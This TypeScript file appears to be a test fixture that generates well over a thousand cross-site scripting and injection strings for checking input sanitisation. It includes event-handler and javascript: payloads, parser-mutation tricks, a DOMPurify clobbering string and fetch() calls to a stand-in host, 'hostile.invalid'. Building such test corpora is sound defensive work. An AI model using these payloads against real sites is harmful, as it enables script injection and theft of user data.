/** The host that hostile texts would call; nothing may ever be asked of it. */
export const hostileHost = "hostile.invalid";

const deeds = ["alert(1)", "globalThis.hostile=1", `fetch('https://${hostileHost}/f')`];
const elements = [
  "img src=x",
  "svg",
  "body",
  "input autofocus",
  "details open",
  "video src=x",
  "audio src=x",
  "iframe srcdoc=x",
  "marquee",
  "select autofocus",
  "textarea autofocus",
  "object data=x",
  "embed src=x",
  "button autofocus",
  "math",
  "x-own tabindex=1 autofocus",
  "style",
  "template",
];
const events = [
  "onerror",
  "onload",
  "onfocus",
  "ontoggle",
  "onstart",
  "onanimationstart",
  "onpageshow",
  "onpointerrawupdate",
];
/** Ways out of wherever the text was put. */
const exits = ["", '">', "'>", "</title>", "</textarea>", "</script>", "-->", "]]>", '"/', "`"];

const schemes = [
  "javascript:",
  "JaVaScRiPt:",
  "java\tscript:",
  "java\nscript:",
  "&#106;avascript:",
  "\u0001javascript:",
  "data:text/html,<script>",
  "vbscript:",
];
const links = [
  "a href",
  "form action",
  "iframe src",
  "object data",
  "embed src",
  "base href",
  "svg><a xlink:href",
  "link rel=stylesheet href",
  "img src",
  "video poster",
  "area href",
  "math href",
];

/** Texts that are markup only after a parser has changed its mind, or never were. */
const shifting: readonly string[] = [
  '<noscript><p title="</noscript><img src=x onerror=DEED>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=DEED&gt;">',
  '<svg></p><style><a id="</style><img src=x onerror=DEED>">',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=DEED src>">',
  "<select><template><img src=x onerror=DEED></template></select>",
  "<svg><foreignObject><img src=x onerror=DEED></foreignObject></svg>",
  "<svg><animate onbegin=DEED attributeName=x dur=1s>",
  "<svg><set attributeName=href to=javascript:DEED><a id=x>go</a></svg>",
  "<table><td background='https://HOST/t'>",
  '<div style="background:url(https://HOST/b)">x</div>',
  "<div style=\"background-image:image-set('https://HOST/i' 1x)\">x</div>",
  "<div style='--x:url(https://HOST/v);background:var(--x)'>x</div>",
  '<p style="list-style:\\75rl(https://HOST/l)">x</p>',
  "<style>@import 'https://HOST/s';</style>",
  "<style>*{background:url(https://HOST/s2)}</style>",
  "<meta http-equiv=refresh content='0;url=https://HOST/m'>",
  "<link rel=prefetch href=https://HOST/p>",
  "<img src=https://HOST/img>",
  "<img srcset='https://HOST/set 1x'>",
  "<video src=https://HOST/vid autoplay></video>",
  "<audio src=https://HOST/aud autoplay></audio>",
  "<iframe src=https://HOST/frame></iframe>",
  "<object data=https://HOST/obj></object>",
  "<script src=https://HOST/js></script>",
  "<script>DEED</script>",
  "<SCRIPT\n>DEED</SCRIPT\n>",
  "<scr<script>ipt>DEED</scr</script>ipt>",
  "<script type=module>DEED</script>",
  "<form id=stage><input name=append></form>",
  "<a id=DOMPurify><a id=DOMPurify name=sanitize href=x>",
  "{{constructor.constructor('DEED')()}}",
  "$\u007bDEED}",
  "<%= DEED %>",
  "';DEED;//",
  "\\x3cimg src=x onerror=DEED\\x3e",
  "\u202e<img src=x onerror=DEED>",
  "\uff1cimg src=x onerror=DEED\uff1e",
  "&lt;img src=x onerror=DEED&gt;",
  "%3Cimg%20src%3Dx%20onerror%3DDEED%3E",
  "<img/src=x/onerror=DEED//",
  "<<img src=x onerror=DEED>",
  "<img src=x onerror\u000c=DEED>",
  "<img src=`x`onerror=DEED>",
  "<xml><svg onload=DEED></xml>",
  "<![CDATA[<img src=x onerror=DEED>]]>",
  "<!--><img src=x onerror=DEED>-->",
  "<?xml version='1.0'?><img src=x onerror=DEED>",
  "<div popover id=x onbeforetoggle=DEED>x</div><button popovertarget=x>",
  "<input type=image src=x onerror=DEED>",
  "<isindex type=image src=1 onerror=DEED>",
];

/**
 * Well over a thousand texts that would run or fetch something, wherever they were taken for markup, an attribute, an
 * address or a style. For every field of people's words, in overlays and in the hub. None is longer than 200 characters.
 */
export function hostileTexts(): string[] {
  const fill = (text: string) =>
    deeds.map((deed) => text.replaceAll("DEED", deed).replaceAll("HOST", hostileHost));
  const handlers = elements.flatMap((element, at) =>
    events.flatMap((event, nth) =>
      exits.map((exit, way) => `${exit}<${element} ${event}=${deeds[(at + nth + way) % deeds.length]}>`),
    ),
  );
  const addresses = links.flatMap((link, at) =>
    schemes.map((scheme, nth) => `<${link}="${scheme}${deeds[(at + nth) % deeds.length]}">x`),
  );
  const all = [...shifting.flatMap(fill), ...addresses, ...handlers];
  return [...new Set(all)].filter((text) => text.length <= 200);
}
